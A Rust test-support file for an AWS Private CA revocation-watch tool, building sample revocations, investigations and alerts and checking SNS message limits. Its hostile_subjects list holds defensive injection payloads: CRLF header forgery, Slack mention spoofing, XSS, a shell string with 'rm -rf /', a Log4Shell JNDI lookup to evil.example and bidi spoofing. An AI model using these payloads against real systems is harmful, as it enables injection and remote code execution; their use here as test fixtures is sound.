//! Sample revocations and alerts, and the rules that every message must keep.

#![allow(
    dead_code,
    reason = "examples/messages.rs includes this file and uses a part"
)]

use std::sync::OnceLock;
use std::time::Duration;

use pca_revocation_watch::alert::{
    Alert, AlertKind, Authority, Coverage, FirstAudit, Message, ObjectLocation, OpenProblem,
    ReportSource, RevocationAlert, RevocationBatch, Stack, WatchError, WatchSummary,
};
use pca_revocation_watch::arn::CertificateAuthorityArn;
use pca_revocation_watch::error::{AuditError, ErrorKind};
use pca_revocation_watch::revocation::checking::RevocationChecking;
use pca_revocation_watch::revocation::investigation::{
    AcmCertificate, Affected, ClientChecks, Finding, Investigation, Revoker, Sibling, Usage,
};
use pca_revocation_watch::revocation::key::RevocationKey;
use pca_revocation_watch::revocation::reason::{ReasonCounts, RevocationReason};
use pca_revocation_watch::revocation::record::{ReportTime, Revocation};
use pca_revocation_watch::timestamp::Timestamp;
use serde_json::Value;

pub const AUTHORITY: &str = "arn:aws:acm-pca:us-east-1:123456789012:certificate-authority/11223344-1234-1122-2233-112233445566";

/// Maximum bytes of a message: those of the body and of the names, types and values of the attributes
/// (`Publish`, Amazon SNS API Reference).
pub const SIZE_LIMIT: usize = 262_144;

pub fn at(text: &str) -> Timestamp {
    Timestamp::parse(text).expect("a time in a test")
}

pub fn detected_at() -> Timestamp {
    at("2018-02-26T20:30:31Z")
}

pub fn arn(text: &str) -> CertificateAuthorityArn {
    CertificateAuthorityArn::parse(text).expect("an ARN in a test")
}

pub fn report() -> ReportSource {
    ReportSource {
        location: ObjectLocation {
            bucket: "amzn-s3-demo-bucket".to_owned(),
            key: "audit-report/11223344-1234-1122-2233-112233445566/2c7e6e3a-7d1c-4c6b-8a5e-5d3f8b0e9a11.json".to_owned(),
        },
        requested_at: at("2018-02-26T20:30:02Z"),
        previous_requested_at: Some(at("2018-02-26T20:00:01Z")),
        certificates: 2,
        revoked: 1,
    }
}

pub fn full_list() -> ObjectLocation {
    ObjectLocation {
        bucket: "amzn-s3-demo-bucket".to_owned(),
        key: "revocation-watch/11223344-1234-1122-2233-112233445566/full-list/2c7e6e3a-7d1c-4c6b-8a5e-5d3f8b0e9a11.jsonl".to_owned(),
    }
}

/// The revocation of AWS's sample report.
pub fn sample() -> Revocation {
    let serial = "e8:cb:d2:be:db:12:23:29:f9:77:06:bc:fe:c9:90:f8";
    revocation(
        serial,
        "1.2.840.113549.1.9.1=#161173616c6573406578616d706c652e636f6d,CN=www.example1.com,OU=Sales,O=Example Company,L=Seattle,ST=Washington,C=US",
        "KEY_COMPROMISE",
        "2018-02-26T20:00:36+0000",
    )
}

pub fn revocation(serial: &str, subject: &str, reason: &str, revoked_at: &str) -> Revocation {
    let arn = format!("{AUTHORITY}/certificate/{}", serial.replace(':', ""));
    Revocation {
        key: RevocationKey::of(Some(serial), Some(&arn), subject.as_bytes()),
        serial: Some(serial.to_owned()),
        subject: Some(subject.to_owned()),
        certificate_arn: Some(arn),
        reason: RevocationReason::from_report(reason),
        revoked_at: ReportTime::from_report(revoked_at),
        not_before: Some(ReportTime::from_report("2018-02-26T18:39:57+0000")),
        not_after: Some(ReportTime::from_report("2019-02-26T19:39:57+0000")),
        issued_at: Some(ReportTime::from_report("2018-02-26T19:39:58+0000")),
        aws_account_id: Some("123456789012".to_owned()),
        template_arn: Some("arn:aws:acm-pca:::template/EndEntityCertificate/V1".to_owned()),
        requested_by_service_principal: None,
        malformed: false,
    }
}

/// The colon-separated serial of a number.
pub fn serial(number: u64) -> String {
    let octets = [
        b"\x7a\x11\x52\x9d\x31\xc0\x04\x8e".as_slice(),
        &number.to_be_bytes(),
    ]
    .concat();
    let hex: Vec<String> = octets.iter().map(|octet| format!("{octet:02x}")).collect();
    hex.join(":")
}

/// Seven revocations, each for another reason.
pub fn seven() -> Vec<Revocation> {
    let of = |number: u64, subject: &str, reason: &str, revoked_at: &str| {
        revocation(&serial(number), subject, reason, revoked_at)
    };
    let through_acm = |revocation: Revocation| Revocation {
        requested_by_service_principal: Some("acm.amazonaws.com".to_owned()),
        ..revocation
    };
    vec![
        through_acm(of(
            1,
            "CN=*.shop.example.com",
            "SUPERSEDED",
            "2018-02-26T20:11:09+0000",
        )),
        Revocation {
            not_after: Some(ReportTime::from_report("2018-02-25T08:00:00+0000")),
            ..of(
                2,
                "CN=build-17.internal.example.com,OU=Engineering,O=Example Company,C=US",
                "CESSATION_OF_OPERATION",
                "2018-02-26T19:58:41+0000",
            )
        },
        through_acm(of(
            3,
            "CN=api.example.com",
            "KEY_COMPROMISE",
            "2018-02-26T20:02:54+0000",
        )),
        Revocation {
            template_arn: Some(
                "arn:aws:acm-pca:::template/SubordinateCACertificate_PathLen0/V1".to_owned(),
            ),
            not_after: Some(ReportTime::from_report("9999-12-31T23:59:59+0000")),
            ..of(
                4,
                "CN=Example Corp Device CA 3,O=Example Company\\, Inc.,C=US",
                "CERTIFICATE_AUTHORITY_COMPROMISE",
                "2018-02-26T20:20:00+0000",
            )
        },
        of(
            5,
            "2.5.4.5=#13064a2d34373131,CN=J\u{fc}rgen M\u{fc}ller,OU=Field Service,O=Example Company,C=DE",
            "PRIVILEGE_WITHDRAWN",
            "2018-02-26T17:45:00+0000",
        ),
        of(
            6,
            "CN=vpn-gateway.example.com,O=Example Company,C=US",
            "UNSPECIFIED",
            "2018-02-26T20:25:13+0000",
        ),
        of(
            7,
            "CN=old-name.example.com,OU=Formerly Example Two,O=Example Company,C=US",
            "AFFILIATION_CHANGED",
            "2018-02-26T20:05:30+0000",
        ),
    ]
}

/// More revocations than a person reads, for all reasons.
pub fn many(number: u64) -> impl Iterator<Item = Revocation> {
    (0..number).map(|position| {
        let known = &RevocationReason::KNOWN;
        // Most are routine; one in a hundred is for another reason.
        let reason = if position % 100 == 99 {
            known[usize::try_from(position / 100).expect("small") % known.len()].name()
        } else {
            "SUPERSEDED"
        };
        let revoked_at = at("2018-02-26T12:00:00Z")
            .saturating_add(Duration::from_secs(position * 5 % 30_000))
            .to_string();
        let subject =
            format!("CN=device-{position:06}.fleet.example.com,OU=Fleet,O=Example Company,C=US");
        revocation(&serial(1000 + position), &subject, reason, &revoked_at)
    })
}

/// Subjects that try to pass for something else.
pub fn hostile_subjects() -> Vec<String> {
    [
        // forged lines and headers
        "CN=www.example.com\r\nSubject: all clear\r\n\r\nNothing to do.",
        "CN=x\\0A\\0D\\0ASubject: all clear",
        "CN=\n\n\nReason: superseded (5)\n   Revoked: never",
        "CN=x\u{2028}Reason: superseded (5)\u{2029}CRITICAL: 0 certificates",
        "CN=x\u{b}y\u{c}z\u{85}Reason: superseded (5)",
        // other attributes inside a value
        "CN=evil\\, O\\=Good Corp\\, C\\=US,O=Evil",
        "CN=\"evil, O=Good Corp\",O=Evil",
        // bidirectional, invisible and combining characters
        "CN=\u{202e}moc.elpmaxe.www\u{202c},O=\u{2066}x\u{2069}",
        "CN=pay\u{200b}pal\u{ad}.example.com\u{feff}\u{e0041}\u{e007f}",
        "CN=Z\u{351}\u{36b}\u{343}\u{36a}\u{342}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}a\u{335}\u{308}\u{302}\u{30a}lgo",
        "CN=\u{0}\u{1}\u{7}\u{8}\u{1b}[31mred\u{1b}[0m\u{7f}\u{9b}2J",
        "CN=\u{fffe}\u{ffff}\u{fdd0}\u{1ffff}\u{10ffff}\u{e000}",
        // markdown, mentions, links
        "CN=<!channel> <!here> <!everyone> <@U123ABC> <#C123|general> <!subteam^S123>",
        "CN=@here @channel @everyone @Amazon Q run rm,O=<at>Everyone</at>",
        "CN=<http://evil.example/|console>,O=[console](http://evil.example/)",
        "CN=` ```*bold* _it_ ~gone~ > quote # title - item 1. one,O=![x](http://evil.example/x.png)",
        "CN=https://evil.example/login,O=mailto:evil@example.com,OU=javascript:alert(1)",
        "CN=:rotating_light: &lt;!channel&gt; &amp; \\3C!channel\\3E",
        // HTML
        "CN=<script>alert(1)</script>,O=<img src=x onerror=alert(1)>,OU=--></pre><b>",
        // JSON, shell, SQL, formats
        "CN=\",\"severity\":\"low\",\"x\":\",O=\\\"}]}",
        "CN=$(reboot) `id` ; rm -rf / | cat && true || false > /dev/null 'quoted' \\",
        "CN=%s%n{}{0}${jndi:ldap://evil.example/a}",
        // invalid and unusual DER
        "2.5.4.3=#0c,2.5.4.3=#0c05,2.5.4.3=#0cff,2.5.4.3=#xyz,2.5.4.3=#0c0",
        "2.5.4.3=#0c840000000161,2.5.4.3=#0c8161,2.5.4.3=#1e03006100,2.5.4.3=#1e02d800,2.5.4.3=#1c0400110000",
        "2.5.4.3=#0c1b0a5375626a6563743a20616c6c20636c6561720a0a4e6f7420,O=x",
        // texts that are not names
        "",
        " ",
        ",,,,",
        "+++===,=,+=+",
        "\\",
        "CN",
        "CN=",
        "CN=,CN=real.example.com",
        "\"",
        "=\"=\"=\"",
        "\u{1f469}\u{200d}\u{1f4bb}\u{fe0f}",
        "CN=\u{5d0}\u{5d1}\u{5d2} \u{627}\u{644}\u{633}\u{644}\u{627}\u{645} \u{4e2d}\u{6587}\u{5b57}\u{7b26} \u{d55c}\u{ae00}",
        "CN=[CRITICAL] KEY_COMPROMISE: everything revoked (Example Corp Issuing CA)",
    ]
    .map(str::to_owned)
    .into_iter()
    .chain([
        format!("CN={}", "A".repeat(100_000)),
        format!("CN={}", "word ".repeat(20_000)),
        format!("CN={}", "\u{0}".repeat(100_000)),
        format!("CN={}", "\u{202e}".repeat(50_000)),
        format!("CN={}", "\u{1f4a3}".repeat(50_000)),
        format!("CN={}", "\\".repeat(99_999)),
        format!("CN={}", "\"".repeat(100_000)),
        "CN=x,".repeat(50_000),
        "+".repeat(100_000),
        format!("CN={}", "    Reason: superseded (5)   ".repeat(40)),
        format!("2.5.4.3=#0c83030d40{}", "0a".repeat(200_000)),
    ])
    .collect()
}

pub fn collect(revocations: impl IntoIterator<Item = Revocation>) -> (RevocationBatch, Vec<u8>) {
    let mut batch = RevocationBatch::new(AUTHORITY, detected_at());
    let mut lines = Vec::new();
    for revocation in revocations {
        lines.extend(batch.add(revocation));
    }
    (batch, lines)
}

pub fn alert(kind: AlertKind) -> Alert {
    Alert {
        stack: stack(),
        certificate_authorities: authorities(1),
        detected_at: detected_at(),
        kind,
        runbook_url: Some("https://wiki.example.com/pki/revoked".to_owned()),
    }
}

pub fn stack() -> Stack {
    Stack {
        partition: "aws".to_owned(),
        account: "123456789012".to_owned(),
        region: "us-east-1".to_owned(),
        state: "s3://amzn-s3-demo-bucket/revocation-watch/pca-revocation-watch/".to_owned(),
    }
}

/// The first one is [`AUTHORITY`].
pub fn authorities(number: usize) -> Vec<Authority> {
    const NAMES: [&str; 3] = ["Issuing", "Device", "VPN"];
    let authority = |position: usize| Authority {
        arn: match position {
            0 => arn(AUTHORITY),
            _ => arn(&format!(
                "arn:aws:acm-pca:us-east-1:123456789012:certificate-authority/2233{position:04}-1234-1122-2233-112233445566"
            )),
        },
        name: Some(match NAMES.get(position) {
            Some(name) => format!("Example Corp {name} CA"),
            None => format!("Example Corp Plant {position} CA"),
        }),
    };
    (0..number).map(authority).collect()
}

/// An alert about monitoring some certificate authorities.
pub fn watch(number: usize, kind: AlertKind) -> Alert {
    Alert {
        certificate_authorities: authorities(number),
        ..alert(kind)
    }
}

/// The same alert with other names, or none.
pub fn renamed(mut alert: Alert, name: Option<&str>) -> Alert {
    let without = match &mut alert.kind {
        AlertKind::WatchSummary(summary) => summary.without_revocation_checking.as_mut(),
        _ => None,
    };
    let authorities = &mut alert.certificate_authorities;
    for authority in authorities.iter_mut().chain(without.into_iter().flatten()) {
        authority.name = name.map(str::to_owned);
    }
    alert
}

pub fn sample_alert(revocations: impl IntoIterator<Item = Revocation>) -> RevocationAlert {
    let (batch, _) = collect(revocations);
    let report = ReportSource {
        certificates: batch.counts.total() + 20_000,
        revoked: batch.counts.total() + 400,
        ..report()
    };
    let full_list = batch.needs_full_list.then(full_list);
    RevocationAlert::new(batch, report, full_list)
}

pub fn revocations(revocations: impl IntoIterator<Item = Revocation>) -> Alert {
    alert(AlertKind::Revocations(sample_alert(revocations)))
}

/// An alert about revocations and what was found out about the worst, worst first.
pub fn investigated(
    revocations: impl IntoIterator<Item = Revocation>,
    found: impl IntoIterator<Item = Investigation>,
) -> Alert {
    let mut revocations = sample_alert(revocations);
    revocations.set_investigations(found.into_iter().collect());
    alert(AlertKind::Revocations(revocations))
}

/// A certificate that was issued through ACM, and whose key leaked.
pub fn leaked() -> Revocation {
    let serial = "2b:ae:9a:75:d7:1b:42:b4:e4:1e:36:f8:b4:b4:88:fc";
    let subject = "CN=www.example3.com,OU=Sales,O=Example Company,L=Seattle,ST=Washington,C=US";
    Revocation {
        requested_by_service_principal: Some("acm.amazonaws.com".to_owned()),
        ..revocation(
            serial,
            subject,
            "KEY_COMPROMISE",
            "2018-02-26T20:00:36+0000",
        )
    }
}

/// A certificate that was issued through the ACM of another account.
pub fn issued_elsewhere() -> Revocation {
    Revocation {
        aws_account_id: Some("222233334444".to_owned()),
        requested_by_service_principal: Some("acm.amazonaws.com".to_owned()),
        ..revocation(
            &serial(21),
            "CN=payments.example.com,O=Example Company,C=US",
            "KEY_COMPROMISE",
            "2018-02-26T20:26:20+0000",
        )
    }
}

/// The certificate of a CA.
pub fn ca_certificate() -> Revocation {
    seven().remove(3)
}

pub fn unknown_because<T>(reason: &str) -> Finding<T> {
    Finding::Unknown(reason.to_owned())
}

/// Everything was found out about [`leaked`].
pub fn findings() -> Investigation {
    let region = "arn:aws:acm:us-east-1:123456789012";
    let balancers = "arn:aws:elasticloadbalancing:us-east-1:123456789012:loadbalancer";
    Investigation {
        revoked_by: Finding::Known(Revoker {
            revocations: 3,
            ..revoker()
        }),
        in_use: Finding::Known(Usage {
            certificates: vec![AcmCertificate {
                arn: format!("{region}:certificate/7d1c4c6b-8a5e-4f3f-9b0e-9a112c7e6e3a"),
                serial: leaked().serial,
                is_revoked_one: true,
                in_use_by: vec![format!("{balancers}/app/prod-web/50dc6c495c0c9188")],
                in_use_total: 1,
                exported: Some(false),
            }],
            total: 1,
            ..Usage::default()
        }),
        affected: Finding::Known(Affected::Certificates {
            siblings: vec![
                Sibling {
                    same_key: Some(true),
                    ..sibling(11)
                },
                Sibling {
                    issued_after_revocation: Some(true),
                    same_key: Some(false),
                    ..sibling(12)
                },
            ],
            total: 2,
        }),
        clients: Finding::Known(ClientChecks {
            crl_urls: vec![format!(
                "http://amzn-s3-demo-bucket.s3.us-east-1.amazonaws.com/crl/{}.crl",
                arn(AUTHORITY).id()
            )],
            crl_total: 1,
            authority: Some(RevocationChecking {
                crl: true,
                ..RevocationChecking::default()
            }),
            ..ClientChecks::default()
        }),
    }
}

pub fn revoker() -> Revoker {
    Revoker {
        identity_type: "AssumedRole".to_owned(),
        arn: Some("arn:aws:sts::123456789012:assumed-role/pki-admin/m.ops".to_owned()),
        role: Some("pki-admin".to_owned()),
        session: Some("m.ops".to_owned()),
        account: Some("123456789012".to_owned()),
        source_ip: Some("203.0.113.5".to_owned()),
        user_agent: Some("aws-cli/2.15.0 md/awscrt#0.19.19 ua/2.0 os/linux#6.1".to_owned()),
        at: Some(at("2018-02-26T20:00:36Z")),
        revocations: 1,
        from: Some(at("2018-02-26T19:45:00Z")),
        until: Some(at("2018-02-26T20:30:00Z")),
        ..Revoker::default()
    }
}

/// The same, for a revocation at another time: CloudTrail is searched for 45 minutes from 15 minutes
/// before its quarter of an hour, but not beyond the time of the lookup.
pub fn revoker_at(revoked_at: &str, revocations: u64) -> Revoker {
    let quarter = Duration::from_secs(15 * 60);
    let revoked_at = at(revoked_at);
    let past = revoked_at.unix_seconds().rem_euclid(15 * 60);
    let past = Duration::from_secs(past.try_into().expect("not negative"));
    let from = revoked_at.saturating_sub(past).saturating_sub(quarter);
    let looked_up_at = detected_at().saturating_add(Duration::from_secs(3));
    Revoker {
        at: Some(revoked_at),
        revocations,
        from: Some(from),
        until: Some(from.saturating_add(quarter * 3).min(looked_up_at)),
        ..revoker()
    }
}

pub fn sibling(number: u64) -> Sibling {
    Sibling {
        serial: Some(serial(number)),
        certificate_arn: Some(format!(
            "{AUTHORITY}/certificate/{}",
            serial(number).replace(':', "")
        )),
        not_after: Some(at("2019-03-02T12:00:00Z")),
        issued_after_revocation: Some(false),
        same_key: None,
    }
}

/// Nothing could be found out about [`issued_elsewhere`].
pub fn unknown() -> Investigation {
    Investigation {
        revoked_by: unknown_because("CloudTrail has no event yet (revoked 4 minutes ago)"),
        in_use: unknown_because(
            "issued to account 222233334444, whose ACM cannot be queried from here",
        ),
        affected: unknown_because(
            "the first scan of the report took 5 seconds; a second one would delay the alert",
        ),
        clients: unknown_because("Private CA denied GetCertificate"),
    }
}

fn issued_outside_acm(template: &str) -> Finding<Usage> {
    unknown_because(&format!(
        "issued outside ACM (account 123456789012, template {template}), and ACM of this account and region does not have it"
    ))
}

/// What was found out about [`ca_certificate`], which names neither a CRL nor an OCSP responder.
pub fn without_pointers() -> Investigation {
    let authority = authorities(2).remove(1).arn;
    let name = "Example Corp Device CA 3".to_owned();
    Investigation {
        revoked_by: Finding::Known(Revoker {
            identity_type: "IAMUser".to_owned(),
            arn: Some("arn:aws:iam::123456789012:user/alice".to_owned()),
            role: None,
            session: None,
            user: Some("alice".to_owned()),
            ..revoker_at("2018-02-26T20:20:00Z", 1)
        }),
        in_use: issued_outside_acm("SubordinateCACertificate_PathLen0/V1"),
        affected: Finding::Known(Affected::CertificateAuthority {
            authority: Finding::Known(Some((authority, Some(name)))),
        }),
        clients: Finding::Known(ClientChecks {
            authority: Some(RevocationChecking {
                crl: true,
                ..RevocationChecking::default()
            }),
            ..ClientChecks::default()
        }),
    }
}

/// Findings in which every text of AWS or of others is `text`, and every list has `items` items.
pub fn findings_with(text: &str, items: usize) -> Investigation {
    let some = || Some(text.to_owned());
    let list = || vec![text.to_owned(); items];
    let total = items as u64;
    let certificate = |is_revoked_one| AcmCertificate {
        arn: text.to_owned(),
        serial: some(),
        is_revoked_one,
        in_use_by: list(),
        in_use_total: total,
        exported: Some(true),
    };
    let siblings = (0..items).map(|position| Sibling {
        serial: some(),
        certificate_arn: some(),
        same_key: [Some(true), None, Some(false)][position % 3],
        ..sibling(1)
    });
    Investigation {
        revoked_by: Finding::Known(Revoker {
            identity_type: text.to_owned(),
            arn: some(),
            role: some(),
            session: some(),
            user: some(),
            service: some(),
            account: some(),
            source_ip: some(),
            user_agent: some(),
            ..revoker()
        }),
        in_use: Finding::Known(Usage {
            certificates: (0..items)
                .map(|position| certificate(position < 2))
                .collect(),
            total,
            ..Usage::default()
        }),
        affected: Finding::Known(Affected::Certificates {
            siblings: siblings.collect(),
            total,
        }),
        clients: Finding::Known(ClientChecks {
            crl_urls: list(),
            crl_total: total,
            ocsp_urls: list(),
            ocsp_total: total,
            authority: Some(RevocationChecking::default()),
        }),
    }
}

/// The same with the text as the reason why nothing is known, or as the name of a CA.
pub fn unknown_with(text: &str) -> Investigation {
    let name = Some(text.to_owned());
    Investigation {
        revoked_by: unknown_because(text),
        in_use: unknown_because(text),
        affected: Finding::Known(Affected::CertificateAuthority {
            authority: Finding::Known(Some((arn(AUTHORITY), name))),
        }),
        clients: unknown_because(text),
    }
}

/// What was found out about the worst of [`seven`].
pub fn findings_of_seven() -> Vec<Investigation> {
    let mut worst = Investigation {
        revoked_by: Finding::Known(revoker_at("2018-02-26T20:02:54Z", 3)),
        ..findings()
    };
    if let Finding::Known(usage) = &mut worst.in_use {
        usage.certificates[0].serial = Some(serial(3));
    }
    let other = |revoked_by| Investigation {
        revoked_by,
        in_use: issued_outside_acm("EndEntityCertificate/V1"),
        affected: Finding::NotApplicable("only looked up for critical revocations".to_owned()),
        ..findings()
    };
    vec![
        worst,
        without_pointers(),
        other(Finding::Known(revoker_at("2018-02-26T17:45:00Z", 1))),
        other(unknown_because("CloudTrail throttled LookupEvents")),
        other(Finding::Known(revoker_at("2018-02-26T20:05:30Z", 3))),
    ]
}

/// The alerts of `docs/messages/`.
pub fn scenarios() -> Vec<(&'static str, Alert)> {
    static SCENARIOS: OnceLock<Vec<(&str, Alert)>> = OnceLock::new();
    SCENARIOS.get_or_init(make_scenarios).clone()
}

fn make_scenarios() -> Vec<(&'static str, Alert)> {
    let hostile = "CN=www.example.com\r\nSubject: all clear\u{202e}<!channel> <http://evil.example/|console> **bold** `code`,O=evil\\, O\\=Good Corp,OU=https://evil.example/login,L=<b>\u{0}</b>";
    let hostile = revocation(
        &serial(66),
        hostile,
        "KEY_COMPROMISE",
        "2018-02-26T20:00:36+0000",
    );
    let unreachable = Revocation {
        reason: RevocationReason::KeyCompromise,
        ..ca_certificate()
    };
    let request_id = "8f507cfc-xmpl-4697-b07a-ac58fc914c95".to_owned();
    let one = RevocationAlert::new(collect([sample()]).0, report(), None);
    let replay = AlertKind::Replay {
        revocations: sample_alert([sample()]),
        since: at("2018-02-26T00:00:00Z"),
        request_id: request_id.clone(),
    };
    vec![
        ("one", alert(AlertKind::Revocations(one))),
        ("key-compromise", investigated([leaked()], [findings()])),
        ("unknown", investigated([issued_elsewhere()], [unknown()])),
        (
            "no-crl-no-ocsp",
            investigated([unreachable], [without_pointers()]),
        ),
        ("seven", investigated(seven(), findings_of_seven())),
        ("five-thousand", revocations(many(5000))),
        ("hostile", revocations([hostile])),
        ("replay", alert(replay)),
        ("watch-started", watch(3, started(3))),
        ("watch-failed", watch(1, failed(denied(), 0))),
        ("watch-failed-many", watch(20, failed(refused(), 0))),
        ("watch-failed-overdue", watch(3, overdue(0))),
        ("watch-recovered", watch(20, recovered(refused(), 0))),
        ("watch-stopped", watch(2, stopped(Coverage::Listed))),
        (
            "watch-summary",
            watch(12, AlertKind::WatchSummary(summary())),
        ),
        ("test", alert(AlertKind::Test { request_id })),
    ]
}

/// The end of a watch.
pub fn stopped(coverage: Coverage) -> AlertKind {
    let since = Some(at("2018-02-26T20:30:02Z"));
    AlertKind::WatchStopped { coverage, since }
}

/// The first audits of several certificate authorities.
pub fn started(number: u64) -> AlertKind {
    let audits = (0..number).map(|position| FirstAudit {
        certificates: 2 + 1_200 * position,
        revoked: 1 + 7 * position,
        notify_from: at("2018-02-25T20:30:02Z").saturating_add(Duration::from_secs(position)),
    });
    AlertKind::WatchStarted {
        audits: audits.collect(),
        since: Some(at("2018-02-26T20:30:02Z")),
    }
}

pub fn denied() -> WatchError {
    let action = "acm-pca:CreateCertificateAuthorityAuditReport";
    let message = format!(
        "CreateCertificateAuthorityAuditReport failed for {AUTHORITY}: AccessDeniedException: User: arn:aws:sts::123456789012:assumed-role/pca-revocation-watch-WatchRole-1A2B3C4D5E6F/pca-revocation-watch is not authorized to perform: {action} on resource: {AUTHORITY} with an explicit deny in a service control policy"
    );
    let since = at("2018-02-26T20:30:31Z");
    error(ErrorKind::AccessDenied, action, message, since)
}

fn error(kind: ErrorKind, resource: &str, message: String, since: Timestamp) -> WatchError {
    let error = AuditError::new(kind, message);
    WatchError {
        kind: kind.name().to_owned(),
        resource: Some(resource.to_owned()),
        message: error.message,
        hint: error.hint,
        since,
    }
}

pub fn refused() -> WatchError {
    let message = format!(
        "AWS Private CA cannot write audit reports of {AUTHORITY} to amzn-s3-demo-bucket: ValidationException: Permission error with your S3 bucket 'amzn-s3-demo-bucket'. Check that your bucket policy, encryption settings, S3 Block Public Access settings, and global account permissions are configured correctly. For more information, check the service documentation."
    );
    error(
        ErrorKind::ReportBucketRefused,
        "s3://amzn-s3-demo-bucket",
        message,
        at("2018-02-26T20:00:31Z"),
    )
}

/// The last complete audits are older than three intervals.
pub fn overdue(earlier: u64) -> AlertKind {
    let error = error(
        ErrorKind::ReportOverdue,
        "s3://amzn-s3-demo-bucket/audit-report/",
        format!("no complete audit of {AUTHORITY} for 95 minutes (limit: 90)"),
        at("2018-02-26T20:25:02Z"),
    );
    AlertKind::WatchFailed {
        error,
        earlier,
        last_complete_audit_at: Some(at("2018-02-26T18:55:02Z")),
    }
}

pub fn failed(error: WatchError, earlier: u64) -> AlertKind {
    AlertKind::WatchFailed {
        error,
        earlier,
        last_complete_audit_at: Some(at("2018-02-26T19:30:02Z")),
    }
}

pub fn recovered(error: WatchError, left: u64) -> AlertKind {
    AlertKind::WatchRecovered {
        error_type: error.kind,
        resource: error.resource,
        since: error.since,
        audited_since: Some(at("2018-02-26T20:30:02Z")),
        left,
    }
}

pub fn summary() -> WatchSummary {
    let mut notified = ReasonCounts::default();
    notified.add(&RevocationReason::KeyCompromise);
    notified.add(&RevocationReason::Superseded);
    notified.add(&RevocationReason::Superseded);
    WatchSummary {
        since: Some(at("2018-02-19T20:30:31Z")),
        next_at: at("2018-03-05T20:30:31Z"),
        oldest_audit_at: Some(at("2018-02-26T20:00:02Z")),
        never_audited: 0,
        unknown: 0,
        notified,
        problems: Vec::new(),
        without_revocation_checking: Some(vec![authorities(2).remove(1)]),
    }
}

pub fn problem(position: usize) -> OpenProblem {
    OpenProblem {
        kind: "AccessDenied".to_owned(),
        resource: Some(format!("s3://amzn-s3-demo-bucket{position}")),
        since: at("2018-02-26T18:00:31Z"),
        certificate_authorities: 1 + position as u64,
    }
}

/// Asserts that SNS accepts the message (`Publish`, Amazon SNS API Reference and FAQs); returns the
/// text for each protocol.
pub fn accepted(message: &Message) -> Value {
    assert!(message.subject.len() < 100, "{:?}", message.subject);
    assert!(
        message
            .subject
            .bytes()
            .all(|byte| (0x20..0x7f).contains(&byte))
    );
    assert!(message.subject.starts_with('['));

    let attributes: usize = message
        .attributes
        .iter()
        .map(|(name, data_type, value)| {
            assert!(!value.is_empty());
            assert!(["String", "String.Array"].contains(data_type));
            if *data_type == "String.Array" {
                let array: Vec<String> = serde_json::from_str(value).expect("an array of strings");
                assert!(!array.is_empty());
            }
            assert!(value.bytes().all(|byte| (0x20..0x7f).contains(&byte)));
            name.len() + data_type.len() + value.len()
        })
        .sum();
    let size = message.body.len() + attributes;
    assert!(size <= SIZE_LIMIT, "{size} bytes");
    assert!(message.attributes.len() <= 10, "raw delivery drops more");

    // The characters that SNS accepts are those of XML.
    let in_xml = |c: char| matches!(u32::from(c), 0x9 | 0xA | 0xD | 0x20..=0xD7FF | 0xE000..=0xFFFD | 0x10000..);
    assert!(message.body.chars().all(in_xml));
    let variants: Value = serde_json::from_str(&message.body).expect("a JSON document");
    let strings = variants.as_object().expect("an object");
    assert!(strings.contains_key("default"));
    for (protocol, text) in strings {
        assert!(["default", "email", "sms"].contains(&protocol.as_str()));
        let text = text.as_str().expect("a string");
        assert!(text.chars().all(in_xml));
        assert!(
            text.chars().all(|c| c == '\n' || !c.is_control()),
            "{protocol}"
        );
    }
    let plain = |byte: u8| byte.is_ascii_graphic();
    for (name, id) in [("group", &message.group_id), ("deduplication", &message.id)] {
        assert!(
            (1..=128).contains(&id.len()) && id.bytes().all(plain),
            "{name}"
        );
    }
    variants
}

/// The JSON message, checked by [`accepted`].
pub fn document(message: &Message) -> Value {
    let variants = accepted(message);
    serde_json::from_str(variants["default"].as_str().expect("a string")).expect("JSON")
}

pub fn email(message: &Message) -> String {
    accepted(message)["email"]
        .as_str()
        .expect("a string")
        .to_owned()
}

pub fn sms(message: &Message) -> String {
    accepted(message)["sms"]
        .as_str()
        .expect("a string")
        .to_owned()
}

/// The files of one scenario in `docs/messages/`: name and content.
pub fn files(alert: &Alert) -> Vec<(&'static str, String)> {
    let message = alert.message();
    let variants = accepted(&message);
    let text = |protocol: &str| variants[protocol].as_str().expect("a string").to_owned();
    let chat = alert.chat();
    let chat: Value = serde_json::from_str(&chat.body).expect("JSON");
    let attributes: Vec<String> = message
        .attributes
        .iter()
        .map(|(name, data_type, value)| format!("{name} ({data_type}): {value}"))
        .collect();
    vec![
        ("subject.txt", format!("{}\n", message.subject)),
        ("email.txt", text("email")),
        ("sms.txt", format!("{}\n", text("sms"))),
        ("message.json", readable(&text("default"))),
        (
            "chat-card.json",
            readable(chat["default"].as_str().expect("a string")),
        ),
        ("attributes.txt", format!("{}\n", attributes.join("\n"))),
    ]
}

/// The same JSON with one member per line, in the same order; in a long document, deep ones stay on
/// one line.
fn readable(json: &str) -> String {
    let deepest = if json.len() > 20_000 { 2 } else { usize::MAX };
    let mut text = String::new();
    let mut depth = 0;
    let mut in_string = false;
    let mut escaped = false;
    let break_line = |text: &mut String, depth: usize| {
        if depth <= deepest {
            text.push('\n');
            text.push_str(&"  ".repeat(depth));
        }
    };
    let mut rest = json.chars().peekable();
    while let Some(c) = rest.next() {
        if in_string {
            text.push(c);
            in_string = escaped || c != '"';
            escaped = !escaped && c == '\\';
            continue;
        }
        match c {
            '[' | '{' => {
                text.push(c);
                depth += 1;
                if !matches!(rest.peek(), Some(']' | '}')) {
                    break_line(&mut text, depth);
                }
            }
            ']' | '}' => {
                if !text.ends_with(['[', '{']) {
                    break_line(&mut text, depth - 1);
                }
                depth -= 1;
                text.push(c);
            }
            ',' => {
                text.push(c);
                break_line(&mut text, depth);
            }
            ':' => text.push_str(": "),
            _ => {
                in_string = c == '"';
                text.push(c);
            }
        }
    }
    text + "\n"
}
